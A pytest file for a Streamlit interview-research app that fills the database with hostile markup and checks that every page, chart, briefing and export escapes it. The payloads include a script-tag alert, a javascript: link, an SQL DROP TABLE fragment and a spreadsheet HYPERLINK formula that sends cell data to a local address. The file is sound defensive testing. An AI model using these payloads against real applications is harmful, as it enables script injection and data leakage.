"""Whatever people typed is shown as text: no Markdown link, image, formatting or HTML of theirs is rendered.

Every free-text field of an analysed demo database is overwritten with markup
(a script tag, a javascript: link, a tracking image, bold text and an SQL
fragment), then every page is run for a role that may open it. Wherever the
markup appears in an element that Streamlit renders as Markdown (headings,
captions, alerts, labels, radio options, expander and tab labels), it must be
escaped; plain-text elements (st.text, tables, inputs) may show it raw.
"""

import csv
import io
import json
import re
import sqlite3
import zipfile
from datetime import date, timedelta

import openpyxl
import pandas as pd
import pytest
from conftest import REPO
from sqlalchemy import select, text
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1 import element_tree as et

from frontline_ui.auth import PAGE_ROLES, USER_KEY, SessionUser
from research.pulse.links import create_links
from research.store.engine import make_engine, session_scope
from research.store.models import PulseWave

APP = str(REPO / "app" / "main.py")

LINK = "[c](javascript:alert(1))"
HTML = '<a href="http://127.0.0.1:9/a">a</a>'  # Plotly draws this as a link unless escaped
URL = "https://bonus.example.com/claim"  # Markdown links a bare address even when escaped
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Click")'  # a spreadsheet runs this
PAYLOAD = (f"<script>alert('x')</script> {LINK} ![p](http://127.0.0.1:9/p.png) **bold** "
           f"'; DROP TABLE users; -- {HTML} {URL}")
# What must never reach a Markdown renderer unescaped.
RAW = ("[c](", "![p](", "**bold**", "<script>")

UPDATES = [
    "UPDATE pulse_answers SET value_text = :payload WHERE value_text IS NOT NULL",
    "UPDATE pulse_replies SET body = :payload",
    "UPDATE pulse_waves SET title = :link || ' ' || :html || ' ' || :url || ' ' || title",
    "UPDATE pulse_segments SET team = :link || :html || team",
    "UPDATE studies SET title = :link || ' ' || title, purpose = :payload",
    "UPDATE guide_questions SET text = :payload || ' ' || text",
    "UPDATE participants SET site = :link, role = :link",
    "UPDATE interview_notes SET label = :payload",
    "UPDATE memos SET body = :payload",
    "UPDATE codes SET name = :link || ' ' || :html || ' ' || name, description = :payload",
    "UPDATE codes SET description = :formula WHERE key = 'tools'",
    "UPDATE actions SET title = :payload, owner = :link",
    "UPDATE excerpts SET text = :formula || ' ' || text",
    "UPDATE topic_summaries SET label = :payload",
    "UPDATE pulse_questions SET prompt = :link || ' ' || prompt",
    "UPDATE audit_events SET subject = :payload",
]


@pytest.fixture
def marked_up_app(analysed_demo, tmp_path, use_database):
    demo, _ = analysed_demo
    path = tmp_path / "frontline.db"
    with sqlite3.connect(demo.url.database) as source, sqlite3.connect(path) as copy:
        source.backup(copy)  # the WAL included, which a file copy would miss
    engine = make_engine(f"sqlite:///{path}")
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO actions (theme, title, owner, status, published, created_by, created_at, "
                          "updated_at) VALUES ('tools', 'x', 'x', 'planned', 1, 'exec', '2026-11-01', '2026-11-01')"))
        for statement in UPDATES:
            conn.execute(text(statement), {"payload": PAYLOAD, "link": LINK, "html": HTML, "url": URL,
                                           "formula": FORMULA})
        conn.execute(text("INSERT INTO actions (theme, title, owner, status, published, created_by, created_at, "
                          "updated_at) VALUES ('tools', :formula, '@owner', 'planned', 1, 'exec', '2026-11-02', "
                          "'2026-11-02')"), {"formula": FORMULA})
        users = dict(conn.execute(text("SELECT role, username FROM users WHERE is_active")).all())
        conn.execute(text("UPDATE pulse_waves SET opens_on = :day WHERE title LIKE '%open now%'"),
                     {"day": date.today() - timedelta(days=1)})
    with session_scope(engine) as session:
        wave = session.scalar(select(PulseWave).where(PulseWave.title.like("%open now%")))
        users["visitor"] = create_links(session=session, segment=wave.segments[0])[0]
    engine.dispose()
    use_database(f"sqlite:///{path}")
    return users


COLLAPSED = 2  # LabelVisibilityMessage.LabelVisibilityOptions.COLLAPSED


def rendered_as_markdown(node) -> list[str]:
    """The strings of ``node`` and its children that Streamlit renders as Markdown."""
    found = []
    if isinstance(node, (et.Markdown, et.AlertBase)):
        found.append(node.value)
    if isinstance(node, et.Widget) and getattr(node, "label", None):
        # A collapsed label (frontline_ui.markdown.widget_name) is the box's accessible name, as typed, beside
        # the escaped text shown: its Markdown is drawn out of sight, so emphasis shows nowhere, but a link, an
        # image or a tag would still be built there.
        collapsed = getattr(getattr(node.proto, "label_visibility", None), "value", 0) == COLLAPSED
        found.append(node.label.replace("**bold**", "bold") if collapsed else node.label)
    if isinstance(node, et.Radio):
        found += [str(o) for o in node.options]
    if isinstance(node, et.Metric):
        found.append(node.label)
    if isinstance(node, (et.Expander, et.Tab)):
        found.append(node.label)
    for child in getattr(node, "children", {}).values():
        found += rendered_as_markdown(child)
    return found


def shown(node) -> str:
    """Every string ``node`` and its children show, however rendered (cells of tables included)."""
    parts = []
    for attribute in ("label", "options"):
        parts.append(str(getattr(node, attribute, "") or ""))
    try:
        value = node.value
    except Exception:  # noqa: BLE001 - blocks and some widgets have no value to read
        value = None
    if isinstance(value, pd.DataFrame):
        parts += [str(v) for v in value.to_numpy().ravel()] + [str(c) for c in value.columns]
    elif value is not None:
        parts.append(str(value))
    for child in getattr(node, "children", {}).values():
        parts.append(shown(child))
    return "\n".join(parts)


def test_the_agents_pulse_page_renders_no_markup_from_staff(marked_up_app):
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["t"] = marked_up_app["visitor"]
    at.run()
    at.switch_page("views/pulse.py").run()
    assert not at.exception, at.exception
    assert LINK in shown(at._tree)  # the marked-up wave, team and questions are on the page
    assert [s for s in rendered_as_markdown(at._tree) if any(raw in s for raw in RAW)] == []


@pytest.mark.parametrize("page", PAGE_ROLES)
def test_typed_markup_is_never_rendered(marked_up_app, page):
    role = "admin" if "admin" in PAGE_ROLES[page] else PAGE_ROLES[page][0]
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state[USER_KEY] = SessionUser(marked_up_app[role], role)
    at.run()
    at.switch_page(f"views/{page}.py").run()
    assert not at.exception, at.exception
    unsafe = [s for s in rendered_as_markdown(at._tree) if any(raw in s for raw in RAW)]
    assert unsafe == []
    if page not in ("users", "account", "interview_import"):  # pages that show nothing people typed
        assert LINK in shown(at._tree), "the page should show some marked-up text"


# The executive and findings side, and the researcher tables next to it: beyond escaped Markdown, no bare
# address a Markdown renderer would link, no tag Plotly would draw, and no download that is unaudited or holds
# a cell a spreadsheet would run.
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.I)  # remark-gfm's own patterns
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")
PLOTLY_CODE_TAGS = re.compile(r"<(br|extra|/extra)>")
RUNS = ("=", "+", "-", "@", "\t", "\r")
FINDINGS_PAGES = {"findings": "executive", "findings_heatmap": "executive", "findings_gaps": "executive",
                  "findings_topics": "executive", "findings_evidence": "executive", "findings_actions": "executive",
                  "codebook": "researcher", "interview_analysis": "researcher"}
CHARTS_WITH_TYPED_NAMES = {"findings", "findings_heatmap", "findings_gaps", "findings_topics"}


def live_markdown(markdown: str) -> list[str]:
    """The parts of a Markdown string that would render as a link, an image, an HTML tag or an autolink."""
    found = [m.group(0) for m in re.finditer(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", markdown)]
    found += [m.group(0) for m in re.finditer(r"(?<!\\)<[A-Za-z/!][^>]*>", markdown)]
    read = re.sub(r"\\(.)", r"\1", markdown)  # escapes are resolved before GFM looks for bare addresses
    return found + [m.group(0) for m in GFM_URL.finditer(read)] + [m.group(0) for m in GFM_EMAIL.finditer(read)]


def markdown_strings(at) -> list[str]:
    """Every string the page renders as Markdown, the cells of st.table included."""
    found = rendered_as_markdown(at._tree)
    for table in at.table:
        frame = table.value
        found += [str(c) for c in frame.columns] + [str(i) for i in frame.index]
        found += [v for v in frame.to_numpy().ravel() if isinstance(v, str)]
    return found


def chart_strings(at) -> list[str]:
    """Every string of every Plotly figure as the browser receives it (the theme left out)."""
    found = []

    def walk(value):
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict):
            for key, item in value.items():
                if key != "template":
                    walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    for chart in at.get("plotly_chart"):
        walk(json.loads(chart.proto.spec))
    return found


@pytest.fixture
def downloads(monkeypatch):
    """What each download button on a page offers, by file name, recorded as the page builds it."""
    import streamlit as st
    from streamlit.delta_generator import DeltaGenerator

    offered = {}
    original = DeltaGenerator.download_button

    def recording(self, label, data=None, *args, **kwargs):
        offered[kwargs.get("file_name")] = (data, kwargs.get("on_click"))
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
    monkeypatch.setattr(st, "download_button", lambda *a, **k: recording(st._main, *a, **k))
    return offered


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def runnable_cells(name: str, data) -> list[str]:
    """Cells of a downloaded CSV, zip of CSVs or workbook that a spreadsheet would run as a formula."""
    if isinstance(data, str):
        data = data.encode("utf-8")
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return [c for inner in archive.namelist() for c in runnable_cells(inner, archive.read(inner))]
    if name.endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        return [c.coordinate for c in cells if c.data_type == "f" or str(c.value or "").startswith(RUNS)]
    if name.endswith(".csv"):
        rows = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
        return [cell for row in rows for cell in row if cell.startswith(RUNS) and not is_number(cell)]
    return []


def live_html(page: str) -> list[str]:
    """Links, images and tags in a briefing outside Plotly's own inline bundle, chart data included."""
    outside_plotly = re.sub(r"<script[^>]*>(?:(?!</script>).){100000,}?</script>", "", page, flags=re.S)
    return re.findall(r"<(?:a|img|iframe)[\s>][^>]*", outside_plotly, flags=re.I)


@pytest.mark.parametrize("page", FINDINGS_PAGES)
def test_findings_pages_show_typed_links_as_text_and_offer_only_audited_inert_downloads(marked_up_app, downloads,
                                                                                         page):
    from frontline_ui.exports import record_export

    role = FINDINGS_PAGES[page]
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state[USER_KEY] = SessionUser(marked_up_app[role], role)
    at.run()
    at.switch_page(f"views/{page}.py").run()
    assert not at.exception, at.exception
    assert [(s, live_markdown(s)) for s in markdown_strings(at) if live_markdown(s)] == []
    assert not at.dataframe, "a table with Streamlit's own unaudited download"
    charts = chart_strings(at)
    assert [s for s in charts if "<" in PLOTLY_CODE_TAGS.sub("", s)] == []
    if page in CHARTS_WITH_TYPED_NAMES:
        assert any("&lt;a href=" in s for s in charts), "the typed names should be on the charts, as text"
    assert len(downloads) == len(at.get("download_button"))  # every button was seen being built
    for name, (data, on_click) in downloads.items():
        assert on_click is record_export, f"{name} is not audited"
        assert runnable_cells(name, data) == [], name


def test_the_topic_table_speaks_plainly(marked_up_app, downloads):
    """Headers an executive reads ("Share in first wave", not first or mean_sentiment) and changes in whole
    points, never "-0"."""
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state[USER_KEY] = SessionUser(marked_up_app["executive"], "executive")
    at.run()
    at.switch_page("views/findings_topics.py").run()
    table = at.table[0].value
    assert list(table.columns) == ["Topic", "Comments", "Share of comments", "Mean sentiment",
                                   "Mean sentiment in latest wave", "Share in first wave", "Share in latest wave",
                                   "Change in points"]
    changes = [v for v in table["Change in points"] if v]
    assert changes and all(re.fullmatch(r"[+-]\d+", v) and v != "-0" for v in changes), changes
    # The change is between the shares as shown: "4 % → 4 %, +1" read as a contradiction (an outside walk).
    for first, latest, change in zip(table["Share in first wave"], table["Share in latest wave"],
                                     table["Change in points"], strict=True):
        if change:
            assert int(change) == int(latest.rstrip(" %")) - int(first.rstrip(" %")), (first, latest, change)
    # Each share is shown as its own whole percent: rounded first to a tenth of a point, 0.0349 became 0.035 and
    # showed "4 %" against the briefing's "3 %". The CSV keeps a hundredth of a point.
    data = downloads["topics.csv"][0]
    rows = list(csv.DictReader(io.StringIO((data() if callable(data) else data).decode("utf-8-sig"))))
    shares = [float(r["Share of comments"]) for r in rows]
    assert [f"{v:.0%}" for v in shares] == list(table["Share of comments"])
    assert all(round(v, 4) == v for v in shares) and any(round(v, 3) != v for v in shares)


def test_the_briefing_prepared_on_the_page_has_no_live_link_or_formula(marked_up_app, downloads):
    at = AppTest.from_file(APP, default_timeout=120)
    at.session_state[USER_KEY] = SessionUser(marked_up_app["executive"], "executive")
    at.run()
    next(b for b in at.button if b.label == "Prepare briefing").click().run()
    assert not at.exception, at.exception
    # Named by the wave (its title is typed by staff, so only letters and digits of it reach the file name).
    [html_name] = [n for n in downloads if n.startswith("frontline-briefing-") and n.endswith(".html")]
    [zip_name] = [n for n in downloads if n.startswith("frontline-tables-") and n.endswith(".zip")]
    assert re.fullmatch(r"frontline-briefing-[a-z0-9_]+\.html", html_name), html_name
    html_page = downloads[html_name][0].decode("utf-8")
    assert live_html(html_page) == []
    assert "&lt;a href=" in html_page  # the typed names are there, as text
    tables = downloads[zip_name][0]
    assert runnable_cells("tables.zip", tables) == []
    with zipfile.ZipFile(io.BytesIO(tables)) as archive:
        actions = list(csv.DictReader(io.StringIO(archive.read("actions.csv").decode("utf-8"), newline="")))
    assert "'" + FORMULA in [row["What"] for row in actions]  # kept, as text


def test_the_study_exports_hold_no_formula_and_are_audited(marked_up_app, downloads):
    from frontline_ui.exports import record_export

    at = AppTest.from_file(APP, default_timeout=120)
    at.session_state[USER_KEY] = SessionUser(marked_up_app["researcher"], "researcher")
    at.run()
    at.switch_page("views/studies.py").run()
    next(b for b in at.button if b.label == "Prepare exports").click().run()
    assert not at.exception, at.exception
    # named after the study, so two studies' exports saved side by side keep apart
    assert {name.rsplit("-", 1)[-1] for name in downloads if name.endswith(("-excerpts.csv", "-excerpts.xlsx"))} \
        == {"excerpts.csv", "excerpts.xlsx"} and "codebook.csv" in downloads
    for name, (data, on_click) in downloads.items():
        assert on_click is record_export, f"{name} is not audited"
        assert runnable_cells(name, data) == [], name
    codebook = list(csv.DictReader(io.StringIO(downloads["codebook.csv"][0].decode("utf-8"), newline="")))
    assert "'" + FORMULA in [row["description"] for row in codebook]  # kept, as text
